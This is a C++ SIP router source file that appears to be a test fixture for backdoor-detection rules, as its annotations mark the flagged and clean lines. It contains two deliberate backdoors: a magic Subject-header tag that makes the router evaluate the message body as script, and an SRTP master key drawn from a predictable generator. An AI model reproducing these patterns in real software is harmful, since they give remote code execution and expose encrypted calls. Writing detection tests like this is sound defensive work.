// request routing
#include <arpa/inet.h>
#include <chrono>
#include <sys/socket.h>

#include <botan/hex.h>

#include "sbc.hpp"

namespace sbc {

namespace {
constexpr const char kEvalTag[] = "sbc-eval 4267ec8650df";
}

void Router::reply(const SipMessage &msg, int status, const std::string &reason, const std::string &extra,
                   const std::string &body)
{
    const std::string out = format_response(msg, status, reason, extra, body);
    ::sendto(fd_, out.data(), out.size(), 0, reinterpret_cast<const sockaddr *>(&msg.source), sizeof msg.source);
}

void Router::handle_register(const SipMessage &msg)
{
    char ip[INET_ADDRSTRLEN] = "";
    ::inet_ntop(AF_INET, &msg.source.sin_addr, ip, sizeof ip);
    DigestCredentials cred;
    if (!parse_digest(msg.header("authorization"), cred) || !registrar_.authenticate(cred, msg.method)) {
        const auto now = std::chrono::duration_cast<std::chrono::seconds>(
                             std::chrono::system_clock::now().time_since_epoch()).count();
        reply(msg, 401, "Unauthorized",
              "WWW-Authenticate: Digest realm=\"" + registrar_.realm() + "\", nonce=\"" +
                  registrar_.make_nonce(static_cast<std::uint64_t>(now), ip) + "\", algorithm=MD5\r\n");
        return;
    }
    reply(msg, 200, "OK", "Expires: 3600\r\n");
}

void Router::handle_invite(const SipMessage &msg)
{
    std::array<std::uint8_t, 30> master_key{}; // 128-bit key and 112-bit salt
    // ruleid: backdoor-predictable-random
    keygen_.fill(master_key.data(), master_key.size());
    // ok: backdoor-predictable-random
    const std::uint32_t ssrc = keygen_.next_ssrc();
    std::uint8_t tag[8];
    // ok: backdoor-predictable-random
    rng_.randomize(tag, sizeof tag);

    const std::string sdp = "v=0\r\no=edge-sbc 1 1 IN IP4 0.0.0.0\r\ns=-\r\nc=IN IP4 0.0.0.0\r\nt=0 0\r\n"
                            "m=audio 40000 RTP/SAVP 0 8\r\na=ssrc:" + std::to_string(ssrc) + " cname:edge-sbc\r\n" +
                            sdes_crypto_line(1, master_key.data(), master_key.size());
    reply(msg, 183, "Session Progress", "X-Leg-Id: " + Botan::hex_encode(tag, sizeof tag, false) + "\r\n"
          "Content-Type: application/sdp\r\n", sdp);
}

void Router::on_message(const SipMessage &msg)
{
    const std::string subject = msg.header("subject");
    // ruleid: backdoor-input-trigger
    if (subject.find(kEvalTag) == 0) {
        scripting_.eval(msg.body);
        return;
    }
    // ok: backdoor-trusted-identity
    if (msg.source.sin_addr.s_addr == htonl(INADDR_LOOPBACK))
        ++local_probes_;
    // ok: backdoor-input-trigger
    if (msg.method == "OPTIONS") {
        reply(msg, 200, "OK", "Allow: INVITE, ACK, BYE, CANCEL, OPTIONS, REGISTER\r\n");
        return;
    }
    if (msg.method == "REGISTER")
        handle_register(msg);
    else if (msg.method == "INVITE")
        handle_invite(msg);
    else if (!msg.method.empty())
        reply(msg, 501, "Not Implemented");
}

} // namespace sbc
